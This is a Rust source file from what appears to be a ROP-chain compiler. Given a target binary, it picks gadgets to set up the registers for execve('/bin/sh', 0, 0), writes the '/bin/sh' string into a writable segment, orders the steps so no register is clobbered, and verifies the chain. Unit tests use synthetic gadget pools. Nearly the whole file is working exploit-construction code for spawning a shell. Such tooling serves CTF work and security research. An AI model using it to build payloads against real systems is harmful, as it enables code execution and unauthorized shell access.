/*  file:       combiner.rs
    desc:       GadgetsCombiner: orchestrates the whole pipeline. Finds the
                writable interval, resolves a load kernel for every needed
                register (fixpoint dependency solver), synthesizes the
                memory-write primitive, orders the kernels so no step
                clobbers a value a later step still needs, and assembles and
                verifies the final chain.
 */

use crate::arch::{Arch, Register};
use crate::chain::{GadgetBox, RopChain, RopChainKernel};
use crate::error::{Error, Result};
use crate::gadget::{GadgetVariant, MemBase};
use itertools::Itertools;
use log::{debug, info, warn};
use object::{Object, ObjectSegment};
use petgraph::algo::toposort;
use petgraph::graph::{DiGraph, NodeIndex};
use std::collections::HashMap;

// "/bin/sh\0", little-endian
const BIN_SH: u64 = 0x0068_732f_6e69_622f;

// WritableInterval is the address range of the largest readable+writable
// segment in the target binary, used as scratch space for injected data.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct WritableInterval {
    pub start: u64,
    pub end: u64,
}

// WritableInterval method impls
impl WritableInterval {
    // scratch_address() returns the midpoint, used as a known-mapped
    // address for dependent loads to dereference.
    pub fn scratch_address(&self) -> u64 {
        (self.start + self.end) / 2
    }

    // string_address() leaves room for an 8-byte string constant at the
    // end of the interval.
    pub fn string_address(&self) -> u64 {
        self.end - 8
    }
}

// split_write() turns one write request into pointer-sized write requests:
// a value wider than the pointer is split into a low word at the
// destination and a high word one word past it.
pub(crate) fn split_write(arch: Arch, what: u64, where_: u64) -> Vec<(u64, u64)> {
    if arch.bits() < 64 && what > arch.max_int() {
        vec![
            (what & arch.max_int(), where_),
            (what >> arch.bits(), where_ + arch.word_bytes()),
        ]
    } else {
        vec![(what, where_)]
    }
}

// GadgetsCombiner drives gadget selection and chain assembly for one
// target binary and one classified gadget pool.
pub struct GadgetsCombiner {
    arch: Arch,
    gadgets: Vec<GadgetVariant>,
    // per register, every gadget able to load it, best quality first
    load_candidates: HashMap<Register, Vec<GadgetVariant>>,
    // per register, the best plain pop with no side effects
    independent_loads: HashMap<Register, GadgetVariant>,
    load_kernels: HashMap<Register, RopChainKernel>,
    write_kernel: RopChainKernel,
    register_values: HashMap<Register, u64>,
}

// GadgetsCombiner method impls
impl GadgetsCombiner {
    pub fn new(arch: Arch, gadgets: Vec<GadgetVariant>) -> Self {
        GadgetsCombiner {
            arch,
            gadgets,
            load_candidates: HashMap::new(),
            independent_loads: HashMap::new(),
            load_kernels: HashMap::new(),
            write_kernel: RopChainKernel::empty(),
            register_values: HashMap::new(),
        }
    }

    // stats() renders the classification-frequency report over the pool.
    pub fn stats(&self) -> String {
        let total = self.gadgets.len();
        let mut out = format!("Found {total} different gadgets\n");
        if total == 0 {
            return out;
        }
        let mut counts: HashMap<&'static str, usize> = HashMap::new();
        for g in &self.gadgets {
            *counts.entry(g.kind_name()).or_default() += 1;
        }
        for (name, count) in counts.into_iter().sorted() {
            out += &format!("* {} {:.2}%\n", name, count as f64 / total as f64 * 100.0);
        }
        out
    }

    // execve() builds and verifies a chain that invokes
    // execve("/bin/sh", 0, 0) on the target binary.
    pub fn execve(&mut self, bin: &object::File) -> Result<RopChain> {
        let writable = Self::find_writable_interval(bin)?;
        info!(
            "writable interval {:#x}..{:#x}, scratch at {:#x}",
            writable.start,
            writable.end,
            writable.scratch_address()
        );
        self.build_execve(writable)
    }

    // build_execve() runs the pipeline against an already-discovered
    // writable interval: plan registers, resolve load kernels, synthesize
    // the string write, order, assemble, verify, and append the trigger.
    pub fn build_execve(&mut self, writable: WritableInterval) -> Result<RopChain> {
        self.setup_execve(&writable);
        self.find_load_gadgets();
        self.compute_load_kernels(writable.scratch_address())?;
        self.compute_write_kernels(BIN_SH, writable.string_address());
        let mut chain = self.compute_chain()?;

        // TODO: prefer syscall-bearing gadgets over bare rets when picking
        // the trigger
        let syscall_gadget = self
            .gadgets
            .iter()
            .filter(|g| matches!(g, GadgetVariant::Other { .. }))
            .sorted_by_key(|g| g.quality())
            .next()
            .cloned();
        match syscall_gadget {
            Some(trigger) => chain.add(trigger, None),
            None => warn!("no trigger gadget in pool, chain has no syscall step"),
        }
        Ok(chain)
    }

    // find_writable_interval() scans the binary's segments for the largest
    // one mapped readable and writable.
    pub fn find_writable_interval(bin: &object::File) -> Result<WritableInterval> {
        let mut best: Option<WritableInterval> = None;
        let mut max_size = 0u64;
        for segment in bin.segments() {
            let rw = match segment.flags() {
                object::SegmentFlags::Coff { characteristics } => {
                    (characteristics & object::pe::IMAGE_SCN_MEM_READ) > 0
                        && (characteristics & object::pe::IMAGE_SCN_MEM_WRITE) > 0
                }
                object::SegmentFlags::Elf { p_flags, .. } => {
                    (p_flags & object::elf::PF_R) > 0 && (p_flags & object::elf::PF_W) > 0
                }
                object::SegmentFlags::MachO { initprot, .. } => {
                    (initprot & object::macho::VM_PROT_READ) > 0
                        && (initprot & object::macho::VM_PROT_WRITE) > 0
                }
                _ => false,
            };
            if !rw || segment.address() == 0 {
                continue;
            }
            if segment.size() > max_size {
                max_size = segment.size();
                best = Some(WritableInterval {
                    start: segment.address(),
                    end: segment.address() + segment.size(),
                });
            }
        }
        best.ok_or(Error::WritableRegionNotFound)
    }

    // setup_execve() plans the register state the syscall ABI requires.
    fn setup_execve(&mut self, writable: &WritableInterval) {
        let string_address = writable.string_address();
        self.register_values = match self.arch {
            Arch::X86 => HashMap::from([
                (Register::Ax, 0xb),
                (Register::Bx, string_address),
                (Register::Cx, 0),
                (Register::Dx, 0),
            ]),
            Arch::X86_64 => HashMap::from([
                (Register::Ax, 0x3b),
                (Register::Di, string_address),
                (Register::Si, 0),
                (Register::Dx, 0),
            ]),
        };
    }

    // find_load_gadgets() indexes the pool by loadable register, ranked by
    // quality, and picks out the independent loads: plain pops with no
    // memory dependency and exactly one clobbered register.
    fn find_load_gadgets(&mut self) {
        let mut candidates: HashMap<Register, Vec<GadgetVariant>> = HashMap::new();
        for g in &self.gadgets {
            let dest = match g {
                GadgetVariant::LoadConst { dest, .. } | GadgetVariant::ReadMem { dest, .. } => {
                    *dest
                }
                _ => continue,
            };
            candidates.entry(dest).or_default().push(g.clone());
        }
        for list in candidates.values_mut() {
            list.sort_by_key(|g| g.quality());
        }

        let mut independent: HashMap<Register, GadgetVariant> = HashMap::new();
        for reg in self.arch.registers() {
            let best = candidates.get(reg).and_then(|list| {
                list.iter().find(|g| {
                    matches!(g, GadgetVariant::LoadConst { .. })
                        && g.gadget().modified_regs.len() == 1
                        && g.gadget().footprint.bases.is_empty()
                })
            });
            if let Some(g) = best {
                independent.insert(*reg, g.clone());
            }
        }
        debug!(
            "independent loads for: {:?}",
            independent
                .keys()
                .map(|r| r.name(self.arch))
                .sorted()
                .collect::<Vec<_>>()
        );
        self.load_candidates = candidates;
        self.independent_loads = independent;
    }

    // compute_load_kernels() resolves a kernel for every register it can.
    // Base case: the independent loads. Iterative case: a register whose
    // best load gadget dereferences exactly one already-resolved base
    // register gets that base's kernel (specialized to point at scratch
    // memory) plus its own load step. Repeats to a fixpoint; required
    // registers left unresolved are a fatal failure.
    fn compute_load_kernels(&mut self, scratch: u64) -> Result<()> {
        let mut kernels: HashMap<Register, RopChainKernel> = HashMap::new();
        for (reg, g) in &self.independent_loads {
            kernels.insert(
                *reg,
                RopChainKernel::new(vec![GadgetBox::new(
                    g.clone(),
                    self.register_values.get(reg).copied(),
                )]),
            );
        }

        // each productive pass resolves at least one register, so the pass
        // count is bounded by the register count
        for _pass in 0..Register::ALL.len() {
            let mut found_one = false;
            let missing: Vec<Register> = self
                .arch
                .registers()
                .iter()
                .filter(|r| !kernels.contains_key(r))
                .copied()
                .collect();
            for reg in missing {
                let best = self.load_candidates.get(&reg).and_then(|list| {
                    list.iter().find(|g| {
                        g.gadget().footprint.bases.iter().all(|b| match b {
                            MemBase::Reg(r) => kernels.contains_key(r),
                            MemBase::Unknown => false,
                        })
                    })
                });
                let Some(best) = best else {
                    continue;
                };
                if let Some(base) = best.gadget().footprint.single_base() {
                    // the base register must point at mapped scratch memory
                    // before the dependent load dereferences it
                    let mut kernel = kernels[&base].specialize(scratch);
                    kernel.add(best.clone(), self.register_values.get(&reg).copied());
                    kernels.insert(reg, kernel);
                    found_one = true;
                } else if best.gadget().footprint.bases.is_empty() {
                    kernels.insert(
                        reg,
                        RopChainKernel::new(vec![GadgetBox::new(
                            best.clone(),
                            self.register_values.get(&reg).copied(),
                        )]),
                    );
                    found_one = true;
                }
            }
            if !found_one {
                break;
            }
        }

        info!(
            "found load kernels for: {:?}",
            kernels
                .keys()
                .map(|r| r.name(self.arch))
                .sorted()
                .collect::<Vec<_>>()
        );
        let unresolved: Vec<&str> = self
            .register_values
            .keys()
            .filter(|r| !kernels.contains_key(r))
            .map(|r| r.name(self.arch))
            .sorted()
            .collect();
        self.load_kernels = kernels;
        if !unresolved.is_empty() {
            return Err(Error::UnsatisfiableRegisterSet(unresolved.join(", ")));
        }
        Ok(())
    }

    // compute_write_kernels() synthesizes the memory-write primitive for
    // one value, splitting it into pointer-sized writes where needed. Every
    // failure here is non-fatal: the chain is still assembled, and final
    // verification surfaces whatever a missing write breaks.
    fn compute_write_kernels(&mut self, what: u64, where_: u64) {
        debug_assert!(where_ <= self.arch.max_int());

        let best_write = self
            .gadgets
            .iter()
            .filter(|g| match g {
                GadgetVariant::WriteMem { addr_reg, src, .. } => {
                    self.load_kernels.contains_key(addr_reg)
                        && self.load_kernels.contains_key(src)
                }
                _ => false,
            })
            .sorted_by_key(|g| g.quality())
            .next()
            .cloned();

        for (what, where_) in split_write(self.arch, what, where_) {
            let Some(write) = &best_write else {
                warn!("unable to find a write memory gadget, setting registers anyway");
                return;
            };
            let GadgetVariant::WriteMem { addr_reg, offset, src, .. } = write else {
                unreachable!("write candidate filter only keeps WriteMem gadgets");
            };
            if write.gadget().footprint.single_base().is_none() {
                warn!("no simple write memory gadget, setting registers anyway");
                return;
            }

            let addr_value = (where_.wrapping_sub(*offset as u64)) & self.arch.max_int();
            let addr_kernel = self.load_kernels[addr_reg].specialize(addr_value);
            let src_kernel = self.load_kernels[src].specialize(what);
            let write_kernel = RopChainKernel::new(vec![GadgetBox::new(write.clone(), None)]);

            // either load kernel may clobber the other's register; try both
            // orders and keep the first whose evaluation is intact
            let mut assembled = None;
            for (first, second) in [
                (&addr_kernel, &src_kernel),
                (&src_kernel, &addr_kernel),
            ] {
                let chain = RopChain::from_kernels([first, second, &write_kernel]);
                let regs = chain.evaluate();
                if regs.get(addr_reg) == Some(&addr_value) && regs.get(src) == Some(&what) {
                    assembled = Some(chain);
                    break;
                }
            }
            match assembled {
                Some(chain) => self.write_kernel.boxes.extend(chain.boxes),
                None => {
                    warn!(
                        "write kernels clobber each other in both orders, \
                         setting registers anyway"
                    );
                    return;
                }
            }
        }
    }

    // compute_chain() orders the load kernels over the clobber-dependency
    // graph, prepends the write kernel, simplifies, and symbolically
    // verifies the requested register state.
    fn compute_chain(&self) -> Result<RopChain> {
        info!("computing kernel order");
        let kernel_regs: Vec<Register> = self
            .arch
            .registers()
            .iter()
            .filter(|r| self.register_values.contains_key(r) && self.load_kernels.contains_key(r))
            .copied()
            .collect();

        // one node per kernel target; an edge from a kernel's target to each
        // register it clobbers forces the clobbered register's kernel to
        // run later
        let mut graph: DiGraph<Register, ()> = DiGraph::new();
        let mut nodes: HashMap<Register, NodeIndex> = HashMap::new();
        for reg in &kernel_regs {
            nodes.insert(*reg, graph.add_node(*reg));
        }
        for reg in &kernel_regs {
            let from = nodes[reg];
            for clobbered in self.load_kernels[reg].modified_regs() {
                if clobbered == *reg {
                    continue;
                }
                let to = match nodes.get(&clobbered) {
                    Some(ix) => *ix,
                    None => {
                        let ix = graph.add_node(clobbered);
                        nodes.insert(clobbered, ix);
                        ix
                    }
                };
                graph.add_edge(from, to, ());
            }
        }

        let order = toposort(&graph, None).map_err(|_| Error::CyclicKernelDependency)?;
        let ordered: Vec<&RopChainKernel> = order
            .iter()
            .map(|ix| graph[*ix])
            .filter(|reg| self.register_values.contains_key(reg))
            .filter_map(|reg| self.load_kernels.get(&reg))
            .collect();

        let mut chain =
            RopChain::from_kernels(std::iter::once(&self.write_kernel).chain(ordered));
        chain.simplify();

        let evaluated = chain.evaluate();
        for (reg, want) in &self.register_values {
            let got = evaluated.get(reg);
            if got != Some(want) {
                warn!(
                    "verification mismatch on {}: wanted {:#x}, evaluated {:?}",
                    reg.name(self.arch),
                    want,
                    got
                );
                return Err(Error::ChainVerificationFailed);
            }
        }
        Ok(chain)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gadget::{Gadget, MemoryFootprint};
    use std::collections::BTreeSet;
    use std::rc::Rc;

    const INTERVAL: WritableInterval = WritableInterval {
        start: 0x2000_0000,
        end: 0x2000_0800,
    };

    fn raw(
        address: u64,
        modified: &[Register],
        bases: &[Register],
        stack_fix: i64,
    ) -> Rc<Gadget> {
        let bases: BTreeSet<MemBase> = bases.iter().map(|r| MemBase::Reg(*r)).collect();
        Rc::new(Gadget {
            bytes: vec![0x58, 0xc3],
            address,
            address_end: address + 2,
            modified_regs: modified.iter().copied().collect(),
            footprint: MemoryFootprint {
                simple: true,
                bases,
            },
            stack_fix,
            retn: 0,
            arch: Arch::X86,
        })
    }

    fn pop(dest: Register, address: u64) -> GadgetVariant {
        GadgetVariant::LoadConst {
            dest,
            offset: 0,
            gadget: raw(address, &[dest], &[], 8),
        }
    }

    fn pop_clobbering(dest: Register, also: Register, address: u64) -> GadgetVariant {
        GadgetVariant::LoadConst {
            dest,
            offset: 0,
            gadget: raw(address, &[dest, also], &[], 12),
        }
    }

    fn read_mem(dest: Register, base: Register, address: u64) -> GadgetVariant {
        GadgetVariant::ReadMem {
            dest,
            addr_reg: base,
            offset: 0,
            gadget: raw(address, &[dest], &[base], 4),
        }
    }

    fn write_mem(addr_reg: Register, src: Register, address: u64) -> GadgetVariant {
        GadgetVariant::WriteMem {
            addr_reg,
            offset: 0,
            src,
            gadget: raw(address, &[], &[addr_reg], 4),
        }
    }

    fn syscall(address: u64) -> GadgetVariant {
        GadgetVariant::Other {
            gadget: raw(address, &[], &[], 4),
        }
    }

    fn abi_pool() -> Vec<GadgetVariant> {
        vec![
            pop(Register::Ax, 0x1000),
            pop(Register::Bx, 0x1100),
            pop(Register::Cx, 0x1200),
            pop(Register::Dx, 0x1300),
            write_mem(Register::Bx, Register::Cx, 0x1400),
            syscall(0x1500),
        ]
    }

    fn expected_abi(string_address: u64) -> HashMap<Register, u64> {
        HashMap::from([
            (Register::Ax, 0xb),
            (Register::Bx, string_address),
            (Register::Cx, 0),
            (Register::Dx, 0),
        ])
    }

    #[test]
    fn end_to_end_execve_chain_verifies() {
        let mut combiner = GadgetsCombiner::new(Arch::X86, abi_pool());
        let chain = combiner.build_execve(INTERVAL).unwrap();

        // requested registers hold exactly the 32-bit execve ABI
        let mut verified = chain.clone();
        verified.boxes.pop(); // drop the trigger, it models no effect
        assert_eq!(verified.evaluate(), expected_abi(INTERVAL.string_address()));

        // the write steps place "/bin" and "/sh\0" into the payload
        let payload = chain.payload();
        assert!(payload.windows(4).any(|w| w == b"/bin"));
        assert!(payload.windows(4).any(|w| w == b"/sh\0"));

        // the chain ends with the trigger gadget's address
        assert_eq!(&payload[payload.len() - 4..], &0x1500u32.to_le_bytes());
    }

    #[test]
    fn identical_inputs_produce_identical_chains() {
        let payload_a = GadgetsCombiner::new(Arch::X86, abi_pool())
            .build_execve(INTERVAL)
            .unwrap()
            .payload();
        let payload_b = GadgetsCombiner::new(Arch::X86, abi_pool())
            .build_execve(INTERVAL)
            .unwrap()
            .payload();
        assert_eq!(payload_a, payload_b);
    }

    #[test]
    fn fixpoint_resolves_chained_dereferences() {
        // di is loadable only via [si], si only via [bx], bx by a pop
        let pool = vec![
            pop(Register::Bx, 0x1000),
            read_mem(Register::Si, Register::Bx, 0x1100),
            read_mem(Register::Di, Register::Si, 0x1200),
        ];
        let mut combiner = GadgetsCombiner::new(Arch::X86, pool);
        combiner.register_values = HashMap::from([(Register::Di, 0x42)]);
        combiner.find_load_gadgets();
        combiner
            .compute_load_kernels(INTERVAL.scratch_address())
            .unwrap();

        let kernel = &combiner.load_kernels[&Register::Di];
        assert_eq!(kernel.boxes.len(), 3);
        assert_eq!(kernel.dest(), Some(Register::Di));

        // executing the kernel leaves di holding the requested value and
        // every intermediate base pointing at scratch
        let regs = RopChain::from_kernels([kernel]).evaluate();
        assert_eq!(regs.get(&Register::Di), Some(&0x42));
        assert_eq!(regs.get(&Register::Si), Some(&INTERVAL.scratch_address()));
        assert_eq!(regs.get(&Register::Bx), Some(&INTERVAL.scratch_address()));
    }

    #[test]
    fn unresolvable_required_register_is_fatal() {
        // no gadget in the pool can load dx
        let pool = vec![
            pop(Register::Ax, 0x1000),
            pop(Register::Bx, 0x1100),
            pop(Register::Cx, 0x1200),
            syscall(0x1500),
        ];
        let err = GadgetsCombiner::new(Arch::X86, pool)
            .build_execve(INTERVAL)
            .unwrap_err();
        match err {
            Error::UnsatisfiableRegisterSet(regs) => assert!(regs.contains("edx")),
            other => panic!("expected UnsatisfiableRegisterSet, got {other:?}"),
        }
    }

    #[test]
    fn unsatisfiability_is_deterministic() {
        let pool = vec![pop(Register::Ax, 0x1000), syscall(0x1500)];
        for _ in 0..3 {
            let err = GadgetsCombiner::new(Arch::X86, pool.clone())
                .build_execve(INTERVAL)
                .unwrap_err();
            assert!(matches!(err, Error::UnsatisfiableRegisterSet(_)));
        }
    }

    #[test]
    fn oversized_writes_split_into_two_words() {
        let writes = split_write(Arch::X86, 0x68732f6e69622f00, 0x1000);
        assert_eq!(writes, vec![(0x69622f00, 0x1000), (0x68732f6e, 0x1004)]);
        assert!(writes.iter().all(|(what, _)| *what <= 0xffff_ffff));

        let single = split_write(Arch::X86_64, 0x68732f6e69622f00, 0x1000);
        assert_eq!(single, vec![(0x68732f6e69622f00, 0x1000)]);
    }

    #[test]
    fn missing_write_gadget_degrades_without_failing() {
        // no WriteMem gadget at all: the chain still builds and verifies
        let pool = vec![
            pop(Register::Ax, 0x1000),
            pop(Register::Bx, 0x1100),
            pop(Register::Cx, 0x1200),
            pop(Register::Dx, 0x1300),
            syscall(0x1500),
        ];
        let mut combiner = GadgetsCombiner::new(Arch::X86, pool);
        let chain = combiner.build_execve(INTERVAL).unwrap();
        let mut verified = chain;
        verified.boxes.pop();
        assert_eq!(verified.evaluate(), expected_abi(INTERVAL.string_address()));
    }

    #[test]
    fn kernel_order_respects_clobbers() {
        // the bx load trashes cx, so cx must be re-established afterwards
        let pool = vec![
            pop(Register::Ax, 0x1000),
            pop_clobbering(Register::Bx, Register::Cx, 0x1100),
            pop(Register::Cx, 0x1200),
            pop(Register::Dx, 0x1300),
            syscall(0x1500),
        ];
        let mut combiner = GadgetsCombiner::new(Arch::X86, pool);
        let chain = combiner.build_execve(INTERVAL).unwrap();

        let bx_pos = chain
            .boxes
            .iter()
            .position(|b| b.variant.dest() == Some(Register::Bx))
            .unwrap();
        let cx_pos = chain
            .boxes
            .iter()
            .position(|b| b.variant.dest() == Some(Register::Cx))
            .unwrap();
        assert!(bx_pos < cx_pos);

        let mut verified = chain;
        verified.boxes.pop();
        assert_eq!(verified.evaluate(), expected_abi(INTERVAL.string_address()));
    }

    #[test]
    fn mutual_clobbers_are_a_cycle() {
        // ax and bx can only be loaded by gadgets that trash each other
        let pool = vec![
            pop_clobbering(Register::Ax, Register::Bx, 0x1000),
            pop_clobbering(Register::Bx, Register::Ax, 0x1100),
            pop(Register::Cx, 0x1200),
            pop(Register::Dx, 0x1300),
            syscall(0x1500),
        ];
        for _ in 0..3 {
            let err = GadgetsCombiner::new(Arch::X86, pool.clone())
                .build_execve(INTERVAL)
                .unwrap_err();
            assert!(matches!(err, Error::CyclicKernelDependency));
        }
    }

    #[test]
    fn write_synthesis_retries_with_swapped_kernels() {
        // the cx load trashes bx: emitting [bx-load, cx-load, write] breaks
        // the address register, so synthesis must swap the two loads
        let pool = vec![
            pop(Register::Ax, 0x1000),
            pop(Register::Bx, 0x1100),
            pop_clobbering(Register::Cx, Register::Bx, 0x1200),
            pop(Register::Dx, 0x1300),
            write_mem(Register::Bx, Register::Cx, 0x1400),
            syscall(0x1500),
        ];
        let mut combiner = GadgetsCombiner::new(Arch::X86, pool);
        let chain = combiner.build_execve(INTERVAL).unwrap();
        let payload = chain.payload();
        assert!(payload.windows(4).any(|w| w == b"/bin"));
        assert!(payload.windows(4).any(|w| w == b"/sh\0"));
    }

    #[test]
    fn stats_reports_every_variant_kind() {
        let combiner = GadgetsCombiner::new(Arch::X86, abi_pool());
        let stats = combiner.stats();
        assert!(stats.contains("Found 6 different gadgets"));
        assert!(stats.contains("LoadConst"));
        assert!(stats.contains("WriteMem"));
        assert!(stats.contains("Other"));
    }

    #[test]
    fn scratch_and_string_addresses_derive_from_the_interval() {
        assert_eq!(INTERVAL.scratch_address(), 0x2000_0400);
        assert_eq!(INTERVAL.string_address(), 0x2000_07f8);
    }
}
